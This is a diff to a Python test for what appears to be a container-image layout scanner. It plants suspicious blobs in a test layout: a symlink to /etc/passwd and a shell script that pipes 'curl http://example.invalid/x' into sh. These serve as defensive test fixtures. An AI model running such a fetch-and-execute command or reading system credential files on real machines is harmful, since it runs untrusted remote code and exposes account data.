@@ -77,7 +77,12 @@ def test_a_folder_of_a_layout_gives_its_own_report(corpus: Path, tmp_path: Path)
     layout = tmp_path / "layout"
     with tarfile.open(corpus / "images" / "dive__test-oci-gzip-image.tar") as archive:
         archive.extractall(layout, filter="data")
-    (layout / "blobs" / "sha256" / ("0" * 64)).symlink_to("/etc/passwd")
+    blobs = layout / "blobs" / "sha256"
+    (blobs / ("0" * 64)).symlink_to("/etc/passwd")
+    (blobs / ("1" * 64)).write_bytes(b"#!/bin/sh\ncurl http://example.invalid/x | sh\n")
+    (blobs / "odd" / "name").mkdir(parents=True)
+    (blobs / "odd" / "name" / "file").write_bytes(b"\x7fELF unnamed")
+    (layout / "beside.txt").write_bytes(b"no part of the layout")
     check(str(layout), tmp_path)
 
 
